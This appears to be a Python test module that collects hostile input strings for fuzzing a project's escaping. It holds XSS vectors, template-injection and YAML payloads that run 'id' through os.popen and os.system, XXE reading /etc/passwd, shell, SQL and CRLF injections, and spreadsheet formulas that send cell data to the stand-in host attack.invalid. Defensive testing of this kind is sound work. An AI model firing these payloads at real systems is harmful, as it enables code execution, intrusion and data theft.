"""The words that every door is tried with: our own, made by rule, and the big list of naughty strings.

A payload runs ``RUN`` where it works, opens a dialog, asks a host that does not exist, or breaks what
it stands in. Ours are made of ways in and of what is brought in, each group by its own rule.
"""

import json
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from itertools import product

from tests.door import ROOT

RUN = "window.canary=1"  # what must never happen
HOST = "attack.invalid"  # nobody's, ever (RFC 2606)
NAUGHTY = ROOT / "tests/javascript/node_modules/big-list-of-naughty-strings/blns.json"

# HTML: what is open where a text lands, and what would do harm once it is closed.
CLOSINGS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</svg></style>")
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src=//{HOST}/a.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=https://{HOST}/a.png>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><use href="data:image/svg+xml,<svg id=a onload={RUN}>#a"/>',
    f"<math><a xlink:href=javascript:{RUN}>押す</a></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object><embed src=//{HOST}/>",
    f"<base href=//{HOST}/>",
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/">',
    f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<style>@import'//{HOST}/';*{{background:url(//{HOST}/)}}</style>",
    f"<form action=//{HOST}/><button autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "<script>alert(1)</script>",
    f"<dialog open><a href=javascript:{RUN} autofocus>押す</a></dialog>",
)
QUOTES = ('"', "'", "`", " ", "/", "\t")
HANDLERS = (
    f"onmouseover={RUN}",
    f"autofocus tabindex=0 onfocus={RUN}",
    f"style=background:url(//{HOST}/)",
    f"onanimationstart={RUN} style=animation-name:x",
    f"href=javascript:{RUN}",
    f"srcdoc=<script>{RUN}</script>",
    "hidden aria-hidden=true",
    f"formaction=javascript:{RUN}",
)
URLS = (
    *(f"{scheme}{RUN}" for scheme in (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
        "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&#58;", "%6Aavascript:", "vbscript:",
        "javascript://%0A", "javascript:/*--></title>*/", "view-source:javascript:", "feed:javascript:",
    )),
    f"data:text/html,<script>parent.{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"data:image/svg+xml,<svg onload={RUN}>", "blob:https://x/1", "file:///etc/passwd", "ftp://x/",
    f"//{HOST}/", f"\\\\{HOST}\\", f"/\\{HOST}/", f"https:{HOST}", f"https://kb.example@{HOST}/",
    f"https://{HOST}\\@kb.example/", f"https://{HOST}#kb.example", f"http://{HOST}/", "https://[::1",
    "https://１２７.0.0.1/", "https://xn--/", "https://kb.example:99999/", "https://%00/", "https://",
    "mailto:a@example.com?bcc=b@example.com%0D%0ABcc:c@example.com", "tel:+81,,,1", "#", "?", "%", "%E0%A4%A",
)  # fmt: skip
CSS = (
    f"}}*{{background:url(//{HOST}/)}}", f"@import '//{HOST}/';", f"expression({RUN})", "/*", "*/", "</style>",
    f"x;-moz-binding:url(//{HOST}/)", "\\3c script\\3e", "a{}", "position:fixed;inset:0", "--x:1", "!important",
)  # fmt: skip
SCRIPT = (
    "</script", "</SCRIPT >", "<!--<script>", "-->", f"\"}};{RUN};//", f"';{RUN};'", f"`;{RUN};`", f"${{{RUN}}}",
    f"\u2028{RUN}\u2028", f"\\u003cscript\\u003e{RUN}", "\\", '\\"', '{"@context":"https://x.example"}', "]}",
    f"*/{RUN}/*", "__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "NaN", "undefined",
    "[object Object]", '{"__proto__":{"canary":1}}', f"'-{RUN}-'", f"\\'-{RUN}//", "<![CDATA[", "</scr\0ipt>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7 * 191 }}", "{{ self }}", "{{ view }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endraw %}",
    "{# #}", "{% include '/etc/passwd' %}", "{%- block x -%}", "{{ config }}", "${7 * 191}", "#{7 * 191}",
    "<%= 7 * 191 %>", "{0.__class__}", "{}", "{name}", "{{", "}}", "%s %d %(x)s %n", "$& $1 $`", "\\1 \\g<0>",
    "@@kb-slot-body@@", "@@kb-slot-title@@ @@kb-slot-trail@@", "@@kb-slot-", "[[ x ]]", "<?php echo 1 ?>",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum }}", "{{'a'|safe}}", "&{x}",
)  # fmt: skip
MARKDOWN = (
    f"[押す](javascript:{RUN})", f"[押す](<javascript:{RUN}>)", f"![絵](https://{HOST}/a.png)",
    f'![絵](x "a" onerror={RUN})', f"<javascript:{RUN}>", f"<https://{HOST}/>", f"[a]: javascript:{RUN}\n\n[a]",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>", "# 見出し", "見出し\n===", "---\ntitle: 題\n---", "***", "> 引用",
    "- 箇条\n  - 書き", "1. 番号", "| a | b |\n|---|---|\n| c | d |", "```\n字\n```", "~~~ {.x onclick=1}\n字\n~~~",
    "    字下げ", "**太字** *斜体* ~~消す~~ ==印==", f"字{{: onclick={RUN} }}", f"{{: style=x onload={RUN} }}",
    '!!! note "題"\n    字', "??? note\n    字", '--8<-- "/etc/passwd"', ":smile: :material-x:", "[TOC]", "[[wiki]]",
    f"<b>太字</b>`{RUN}`", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp;", "\\<b\\>", "a  \nb", "|", "||",
    f"[x](data:text/html,<script>{RUN}</script>)", "[x](../../../../etc/passwd)", "[x](//attack.invalid)", "*[HTML]: x",
    f'<div markdown="1">{RUN}</div>', "$$x$$ \\(x\\)", "```mermaid\ngraph\n```", "@user #1 GH-1 0000000", "- [x] 済",
)  # fmt: skip
TYPST = (
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#import "@preview/a:1.0.0": *', '#eval("1 + 1")',
    f'#link("javascript:{RUN}")[x]', f'#link("https://{HOST}/")[x]', '#image("/etc/passwd")', '#panic("x")',
    "#set page(width: 1pt)", "#pagebreak()", "#while true {}", "#let f() = f(); #f()", "<label> @nothing", "$ x $",
    "*太字* _斜体_", "/* //", "\\u{1F600}", "#", "[#", "]", "#{", "= 見出し", "#metadata(1) <a>", '#plugin("x")',
)  # fmt: skip
XML = (
    "]]>", "<![CDATA[x]]>", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;", "&#0;", "&#x1F;", "&",
    f'<?xml-stylesheet href="//{HOST}/"?>', "<?xml version='1.0'?>", "</entry></feed>", "</loc>", "<xi:include/>",
    f'<a:script xmlns:a="http://www.w3.org/1999/xhtml">{RUN}</a:script>', "&lt;b&gt;", "<!-- -- -->",
)  # fmt: skip
FORMULA_STARTS = (
    *("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\n=", "\r=", " =", "'=", '"=', '";=', '","='),
    "\u3000=", "\u00a0=",
)  # fmt: skip
FORMULAS = (
    "1+1",
    f'HYPERLINK("https://{HOST}/?"&A1)',
    "cmd|' /C calc'!A0",
    f'WEBSERVICE("https://{HOST}/")',
    f'IMPORTXML("https://{HOST}/","//a")',
)
YAML = (
    '!!python/object/apply:os.system ["id"]', "!<tag:yaml.org,2002:binary> AA==", "&a [*a]", "*x", "&x y", "? 鍵",
    "- - -", "鍵: 値", "字 # 註", "# 註", "|", "|+2", ">-", "%YAML 1.1", "---", "...", "<<: *x", "{a: b", "[", "]",
    "yes", "no", "on", "null", "~", "0o17", "0x1F", "1e3", "1_000", "2026-01-01", "12:30:45", ".inf", ".nan", "''",
    '"', "'", "\\x00", '"\\x00"', "a: b: c", ": ", "- ", "@", "`", "%", ",", "=", "<<", "true", "!x y", "字:",
    "a:\n  - b", "字\n\t字", "字\u0085字", "#", " 前後 ", "\n字\n",
)  # fmt: skip
HIDDEN = (
    0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1A, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x9B, 0xA0, 0xAD, 0x115F, 0x180E, 0x200B,
    0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202D, 0x202E, 0x2060, 0x2066, 0x2069, 0x206F, 0x3000,
    0x3164, 0xE000, 0xFE0F, 0xFEFF, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xE0041, 0xE0100, 0xF0000, 0x10FFFF,
)  # fmt: skip
WRITTEN = (
    "か\u3099", "が", "ﾊﾟﾋﾟﾌﾟ", "①㈱㌔", "ﬃ", "ß", "ẞ", "İıiI", "K", "Å", "葛\U000e0100", "𠮷野家", "👨‍👩‍👧", "🏳️‍🌈", "🇯🇵",
    "e" + "\u0301" * 60, "العربية", "עברית", "ไทย", "한글", "＜ｓｃｒｉｐｔ＞", "‹script›", "ſcript", "ʺ＂", "‚；：", "Ａ", "〜～",
    "𝒜𝓁𝑒𝓇𝓉", "￾", "\U0001f600" * 40, "ー－−‐", "¥\\", "…", "\u1680", "\u2007", "\u205f",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "\\\\host\\x", "CON", "NUL.txt", "COM1", ".", "..", "...",
    "%2e%2e%2f", "..%c0%af", "....//", "index", "index.md", "feed.xml", "404", "assets", "api", ".git", ".htaccess",
    "-rf", "--help", "~", "$HOME", "$(id)", "`id`", ";id", "|id", "&&id", "a b", " a", "a ", "a.", "a:b", "*", "?",
    "<>", "a\nb", "a\rb", "a\x1b[2Jb", "a" * 250, "あ" * 83, "site.old", "desktop.ini", "a.yml", "a.md", "a.yml.md", ".yml",
    ".md", "A", "ａ", "é", "e\u0301", "#a", "a?b", "a%20b", "a'b", 'a"b', "a,b", "a\\b", "{a}", "[a]", "(a)", "__proto__",
)  # fmt: skip
COMMAND_STARTS = ("", "字\n", "字%0A", "字\r", "字%0D%0A", "字\u2028", " ")
COMMANDS = (
    *(
        "::set-output name=a::b",
        "::error::x",
        "::add-mask::a",
        "::stop-commands::x",
        "::set-env name=PATH::x",
    ),
    *(
        "::add-path::/tmp",
        "::group::x",
        "::debug::x",
        "::add-matcher::x.json",
        "::error file=a,line=1::x",
    ),
    *("##[error]x", "##[add-mask]a", "##vso[task.setvariable variable=a]b"),
)
TERMINAL = (
    "\x1b[2J", "\x1b[31m赤", "\x1b]0;題\x07", "\x1b]8;;https://attack.invalid\x1b\\x", "\x1b]52;c;QQ==\x07", "\x9b31m",
    "\x1bc", "字\x08\x08\x08", "字\r偽", "\x1b[1A\x1b[2K偽", "\x1bP+q\x1b\\", "\x0e\x0f", "\x1b[6n", "\x1b%G", "\x07" * 9,
)  # fmt: skip
PIECES = (
    "a", "あ", "(", ")", "[", "![", "<", "<!--", "<![CDATA[", "&", "*", "_", "**a", "`", "\\", " ", "\n", ">", "- ", "1. ",
    "a@", "http://", "{", "{{", "a,", "%E3", "0", "-", ".", "[a](", "[^1]", "|", "#", "\t", "字 ", "a.", "://", "!", "=", "~",
)  # fmt: skip
LONG = 3000  # characters: as long as a text may be, or nearly
OTHERS = (
    "' OR 1=1 --", '"; DROP TABLE cases; --', "x\r\nSet-Cookie: a=b", "%0D%0ALocation:%20//attack.invalid", "() { :;}; id",
    "$(touch /tmp/canary)", "`touch /tmp/canary`", "| touch /tmp/canary", "&& id #", "%00", "..;/", "*)(uid=*", "0/0",
    "9" * 400, "-1", "1e999", "0x7FFFFFFFFFFFFFFF", "NULL", "None", "True", "1,000", "１２", "٣", "½", "",
)  # fmt: skip


@dataclass(frozen=True)
class Payload:
    """One hostile text, and the rule or list that it comes from."""

    group: str
    text: str


def _joined(starts: Iterable[str], ends: Iterable[str]) -> Iterator[str]:
    return ("".join(both) for both in product(starts, ends))


GROUPS: dict[str, Iterable[str]] = {
    "html": _joined(CLOSINGS, ELEMENTS),
    "attributes": (f"x{quote} {handler} y={quote}" for quote, handler in product(QUOTES, HANDLERS)),
    "addresses": URLS,
    "css": CSS,
    "script and JSON": SCRIPT,
    "templates": TEMPLATES,
    "markdown": MARKDOWN,
    "typst": TYPST,
    "xml": XML,
    "formulas": _joined(FORMULA_STARTS, FORMULAS),
    "yaml": YAML,
    "unseen": (text for char in map(chr, HIDDEN) for text in (f"字{char}字", f"{char}<b>{char}")),
    "writing": WRITTEN,
    "paths": PATHS,
    "workflow commands": _joined(COMMAND_STARTS, COMMANDS),
    "terminal": TERMINAL,
    "long": (piece * (LONG // len(piece)) for piece in PIECES),
    "others": OTHERS,
}


def own() -> list[Payload]:
    """All of ours, each once."""
    return [
        *{text: Payload(group, text) for group, texts in _OWN.items() for text in texts}.values()
    ]


_OWN = {group: tuple(texts) for group, texts in GROUPS.items()}


def naughty() -> list[Payload]:
    """The big list of naughty strings, read where npm put it; nothing of it lies in this project."""
    return [Payload("naughty", text) for text in json.loads(NAUGHTY.read_text("utf-8"))]


def corpus() -> list[Payload]:
    """All of both."""
    return [*{payload.text: payload for payload in [*naughty(), *own()]}.values()]


def sample(each: int) -> list[Payload]:
    """So many of each group of ours, spread over it: what there is time for in every run."""
    return [
        Payload(group, text)
        for group, texts in _OWN.items()
        for text in texts[:: max(1, len(texts) // each)][:each]
    ]


def texts(payloads: Sequence[Payload]) -> list[str]:
    """Their texts alone."""
    return [payload.text for payload in payloads]
